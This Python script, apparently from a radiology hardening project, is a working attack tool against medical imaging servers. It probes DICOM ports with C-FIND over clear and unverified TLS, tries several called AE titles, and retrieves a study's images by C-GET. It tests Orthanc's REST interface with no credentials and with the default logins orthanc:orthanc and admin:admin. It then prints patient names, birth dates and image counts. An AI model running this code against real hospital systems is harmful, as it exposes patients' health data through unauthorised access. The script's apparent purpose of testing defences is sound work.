# Copyright (c) 2026 the radiology.hardening authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Do what a stranger with a plain image viewer and a browser would do, and print it as JSON.

Usage: attacker.py ADDRESS [ADDRESS ...]. For each address: the series that can be listed by DICOM (C-FIND in clear, and
over TLS without a certificate, on the usual ports) and by REST (without credentials and with orthanc:orthanc), and
the names and birth dates of a few patients, and the images of one study, fetched by C-GET: they are readable.
"""

from __future__ import annotations

import base64
import json
import socket
import ssl
import sys
import urllib.request
from contextlib import suppress

from pydicom.dataset import Dataset
from pynetdicom import AE, build_role, evt

FIND, GET = "1.2.840.10008.5.1.4.1.2.2.1", "1.2.840.10008.5.1.4.1.2.2.3"
IMAGES = ("1.2.840.10008.5.1.4.1.1.2", "1.2.840.10008.5.1.4.1.1.4")
DICOM_PORTS = (104, 2762, 4242, 11112)
WEB_PORTS = {80: "http", 443: "https", 8042: "http"}
CALLED = ("ANY-SCP", "ORTHANC", "LUMIERE", "HARMONIE")


def careless() -> ssl.SSLContext:
    """Return TLS that trusts anyone and shows no certificate."""
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname = False
    made.verify_mode = ssl.CERT_NONE
    return made


def answers(address: str, port: int) -> bool:
    """Tell whether anything takes a connection there."""
    try:
        socket.create_connection((address, port), timeout=1).close()
    except OSError:
        return False
    return True


def ask(address: str, port: int, called: str, tls: bool, **keys: str) -> list[Dataset] | None:
    """Return the answers to a C-FIND; None when nobody takes the association."""
    entity = AE(ae_title="STRANGER")
    entity.add_requested_context(FIND)
    entity.acse_timeout = entity.dimse_timeout = entity.network_timeout = 10
    entity.connection_timeout = 2
    options = {"tls_args": (careless(), None)} if tls else {}
    association = entity.associate(address, port, ae_title=called, **options)
    if not association.is_established:
        return None
    question = Dataset()
    for keyword, value in keys.items():
        setattr(question, keyword, value)
    found = [answer for status, answer in association.send_c_find(question, FIND) if answer]
    association.release()
    return found


def fetch(address: str, port: int, called: str, tls: bool, study: str) -> int:
    """Fetch one study by C-GET and return how many images with pixels came."""
    fetched = []

    def received(event: evt.Event) -> int:
        fetched.append(bool(event.dataset.PixelData))
        return 0

    entity = AE(ae_title="STRANGER")
    entity.acse_timeout = entity.dimse_timeout = entity.network_timeout = 10
    entity.connection_timeout = 2
    for each in (GET, *IMAGES):
        entity.add_requested_context(each)
    options = {"tls_args": (careless(), None)} if tls else {}
    association = entity.associate(
        address,
        port,
        ae_title=called,
        ext_neg=[build_role(each, scp_role=True) for each in IMAGES],
        evt_handlers=[(evt.EVT_C_STORE, received)],
        **options,
    )
    if association.is_established:
        wanted = Dataset()
        wanted.QueryRetrieveLevel = "STUDY"
        wanted.StudyInstanceUID = study
        for _answer in association.send_c_get(wanted, GET):
            pass
        association.release()
    return sum(fetched)


def by_dicom(address: str) -> dict[str, object]:
    """List studies and series by DICOM."""
    for port in (port for port in DICOM_PORTS if answers(address, port)):
        for tls in (False, True):
            for called in CALLED:
                studies = ask(
                    address,
                    port,
                    called,
                    tls,
                    QueryRetrieveLevel="STUDY",
                    StudyInstanceUID="",
                    PatientName="",
                    PatientBirthDate="",
                    StudyDescription="",
                )
                if studies is None:
                    continue
                series = sum(
                    len(
                        ask(
                            address,
                            port,
                            called,
                            tls,
                            QueryRetrieveLevel="SERIES",
                            StudyInstanceUID=study.StudyInstanceUID,
                            SeriesInstanceUID="",
                        )
                        or []
                    )
                    for study in studies
                )
                people = [f"{study.PatientName}, born {study.PatientBirthDate}" for study in studies[:5]]
                images = fetch(address, port, called, tls, studies[0].StudyInstanceUID) if studies else 0
                found = {"port": port, "tls": tls, "studies": len(studies), "series": series}
                return {**found, "images_fetched": images, "patients": people}
    return {"series": 0}


def by_rest(address: str) -> dict[str, object]:
    """List series by Orthanc's REST interface."""
    host = f"[{address}]" if ":" in address else address
    for port in (port for port in WEB_PORTS if answers(address, port)):
        for credentials in ("", "orthanc:orthanc", "admin:admin"):
            request = urllib.request.Request(f"{WEB_PORTS[port]}://{host}:{port}/statistics")
            if credentials:
                request.add_header("Authorization", "Basic " + base64.b64encode(credentials.encode()).decode())
            with suppress(OSError, ValueError):
                with urllib.request.urlopen(request, timeout=2, context=careless()) as answer:
                    counts = json.load(answer)
                return {"port": port, "credentials": credentials or "none", "series": counts["CountSeries"]}
    return {"series": 0}


def main(addresses: list[str]) -> None:
    """Attack each address and print what came of it."""
    print(json.dumps({address: {"dicom": by_dicom(address), "rest": by_rest(address)} for address in addresses}))


if __name__ == "__main__":
    main(sys.argv[1:])
